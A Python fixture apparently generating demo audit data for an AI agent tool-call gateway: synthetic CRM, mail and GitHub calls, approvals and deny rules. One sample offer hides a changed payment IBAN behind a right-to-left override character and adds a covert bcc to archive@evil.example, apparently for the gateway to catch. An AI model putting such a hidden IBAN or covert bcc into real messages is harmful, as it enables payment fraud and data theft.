"""The calls that the demo's agents make: those of the past as rows of the audit, those of now through the gateway."""

import random
import time
from collections.abc import Iterator, Mapping, Sequence
from typing import Any, Final, NamedTuple

from aggregator.domain.call_record import (
    TOOL_CALL,
    AuditEvent,
    CalledItem,
    CallRecord,
    RecordedCaller,
    RecordedDecision,
    RecordedOutcome,
    RecordedSending,
    Stage,
    TraceContext,
)
from aggregator.storage.approvals import ApprovalAnswer
from tests.console.demo.catalogs import milliseconds, result
from tests.console.demo.world import LAST_WORDS, SECRET


class AgentCall(NamedTuple):
    """One call that an agent makes now and then; `weight` says how often."""

    agent: str
    tool: str
    arguments: Mapping[str, Any]
    weight: int = 4


OFFER: Final = (
    "Dear Ms Li,\nas agreed on the phone this morning, here is our offer for 400 units of the model B, delivered to "
    "Shanghai by 12 December. Prices are net and hold until the end of the month.\n\n"
    + "\n".join(f"{at:>2}. Model B, colour {at % 4 + 1}, batch of 40, EUR {1180 + 7 * at:,}.00" for at in range(1, 37))
    + "\n\nPlease note the changed account for payments, IBAN \u202eDE02 1203 0000 0000 2020 51. Kind regards"
)
# Waits for a person: a further argument that the schema does not know, and a character that turns the text round.
ASKED: Final = AgentCall(
    "sales-desk", "crm.send_offer",
    {"customer_id": "c-9", "subject": "Offer 4711", "body": OFFER, "bcc": "archive@evil.example"}, 0,
)  # fmt: skip
MERGE: Final = AgentCall("code-agent-07", "github.merge_pull_request", {"repo": "acme/shop", "number": 418}, 0)

# What people have answered today, in this order; the last one lets the same call through for a day.
ANSWERED: Final[Sequence[tuple[AgentCall, ApprovalAnswer]]] = (
    (
        AgentCall("sales-desk", "crm.send_offer",
                  {"customer_id": "c-9", "subject": "Offer 4710", "body": OFFER.replace("\u202e", "")}),
        ApprovalAnswer("approve", "maria", "agreed with the customer by phone"),
    ),
    (
        AgentCall("support-bot", "crm.send_offer", {"customer_id": "c-118", "subject": "20 % off", "body": "For you."}),
        ApprovalAnswer("deny", "jonas", "No discounts by e-mail: hand the customer over to sales."),
    ),
    (
        AgentCall("sales-desk", "files.write_file", {"path": "/offers/4710.txt", "content": "Offer 4710, sent."}),
        ApprovalAnswer("approve", "maria", None, "today"),
    ),
)  # fmt: skip

CALLS: Final[Sequence[AgentCall]] = (
    AgentCall("sales-desk", "crm.get_customer", {"customer_id": "c-9"}, 9),
    AgentCall("sales-desk", "crm.list_orders", {"customer_id": "c-9", "limit": 20, "state": "open"}, 9),
    AgentCall("sales-desk", "crm.list_orders", {"customer_id": "c-118", "limit": 500}, 1),
    AgentCall("sales-desk", "mail.read_thread", {"thread_id": "t-77"}, 6),
    AgentCall("sales-desk", "maps.weather", {"city": "Shanghai"}, 2),
    AgentCall("sales-desk", "files.read_file", {"path": "/templates/offer.txt"}, 3),
    AgentCall("support-bot", "crm.get_customer", {"customer_id": "c-118"}, 8),
    AgentCall("support-bot", "mail.search", {"query": f"delivery in December, key {SECRET}"}, 5),
    AgentCall("support-bot", "crm.delete_customer", {"customer_id": "c-119"}, 2),
    AgentCall("support-bot", "crm.merge_customers", {"keep": "c-118", "drop": "c-119"}, 1),
    AgentCall("support-bot", "mail.send", {"to": "li.wei@customer.example", "subject": "Hello", "body": "..."}, 1),
    AgentCall("sales-desk", "crm.merge_customers", {"keep": "c-118", "drop": "c-119"}, 1),
    AgentCall("code-agent-07", "github.search_code", {"query": "refund rounding", "language": "Python"}, 9),
    AgentCall("code-agent-07", "github.get_file", {"repo": "acme/shop", "path": "payments/refund.py"}, 9),
    AgentCall("code-agent-07", "github.list_pull_requests", {"repo": "acme/shop"}, 3),
    AgentCall("code-agent-07", "github.create_pull_request_review",
           {"repo": "acme/shop", "number": 418, "body": "See line 210.",
            "comments": [{"path": "payments/refund.py", "line": 210, "body": "Round half to even."}]}, 2),
    AgentCall("code-agent-07", "github.create_pull_request_review",
           {"repo": "acme/shop", "number": 418, "body": "...", "comments": [{"path": "a.py", "line": "x"}]}, 1),
    AgentCall("code-agent-07", "files.write_file", {"path": "/notes.txt", "content": "..."}, 1),
    AgentCall("etl-nightly", "erp.export_ledger", {"month": "2026-10"}, 1),
    AgentCall("etl-nightly", "crm.list_orders", {"customer_id": "c-9"}, 4),
)  # fmt: skip
_REFUSED: Final[Mapping[tuple[str, str], tuple[str, str, str]]] = {
    ("support-bot", "crm.delete_customer"): ("tool_not_allowed", 'deny "*.delete_*"', "policies/shop.yaml:9"),
    ("support-bot", "crm.merge_customers"): ("tool_not_allowed", 'deny "crm.merge_customers"', "policies/shop.yaml:30"),
    ("support-bot", "mail.send"): ("tool_not_allowed", 'deny "mail.send"', "policies/shop.yaml:30"),
    ("code-agent-07", "files.write_file"): ("tool_not_allowed", 'deny "files.write_file"', "policies/code.yaml:10"),
}  # fmt: skip


def past(now: float, hours: float = 3.0, a_minute: float = 6.0) -> Iterator[CallRecord | AuditEvent]:
    """Make the records of some hours before `now`: the same calls each time."""
    chance = random.Random(4711)  # noqa: S311 - no secrets
    yield AuditEvent("upstream_state", now - hours * 3600, f"erp is unavailable: {LAST_WORDS}", server="erp")
    weights = [each.weight for each in CALLS]
    at, end = now - hours * 3600, now - 5
    count = 0
    while at < end:
        # Busier at some times than at others.
        wave = 1.6 if int(at / 600) % 3 else 0.5
        at += chance.expovariate(a_minute * wave / 60)
        count += 1
        yield _past_call(chance, chance.choices(CALLS, weights)[0], at, count)


def _past_call(chance: random.Random, one: AgentCall, at: float, count: int) -> CallRecord:
    server, _, own = one.tool.partition(".")
    seconds = milliseconds(own, count) / 1000
    call = CallRecord(
        TraceContext(f"{chance.getrandbits(128):032x}", f"{chance.getrandbits(64):016x}"),
        at, RecordedCaller(one.agent, "http", "2026-07-28", conversation_id=f"c-{int(at / 900) % 90 + 10}"),
        one.tool, called=CalledItem(TOOL_CALL, server, one.tool, own, "3793967c0a52"),
        sending=RecordedSending(sent=True, upstream_version="2025-11-25"),
        duration=seconds + 0.0006, arguments=one.arguments,
    )  # fmt: skip
    if one.arguments.get("limit") == 500:
        return _ended(call, "invalid", "invalid_arguments", f"{one.tool} was not called: /limit at most 50, got 500.")
    if one.arguments.get("body") == "..." and "comments" in one.arguments:
        said = f"{one.tool} was not called: /comments/0/line expected an integer, got a string."
        return _ended(call, "invalid", "invalid_arguments", said)
    if (one.agent, one.tool) in _REFUSED:
        code, rule, source = _REFUSED[one.agent, one.tool]
        call.decision = RecordedDecision(rule, source)
        return _ended(call, "denied", code, f"{one.agent} may not call {one.tool}.")
    if server == "erp":
        return _ended(call, "unavailable", "upstream_unavailable", "erp is unavailable: it ended with exit code 3.")
    call.result = result(own)
    call.steps = [Stage("policy", 0.0, 3e-5), Stage("check", 3e-5, 1e-4), Stage("upstream", 2e-4, seconds)]
    if call.result.get("isError"):
        call.outcome = RecordedOutcome("error", "tool_error", call.result["content"][0]["text"])
    return call


def _ended(call: CallRecord, status: Any, code: str, message: str) -> CallRecord:
    call.outcome, call.duration = RecordedOutcome(status, code, message), 0.0005
    return call


def now_and_then(seed: int = 7) -> Iterator[AgentCall]:
    """Give one call after another, without end."""
    chance = random.Random(seed + int(time.time()))  # noqa: S311 - no secrets
    weights = [each.weight for each in CALLS]
    while True:
        yield chance.choices(CALLS, weights)[0]
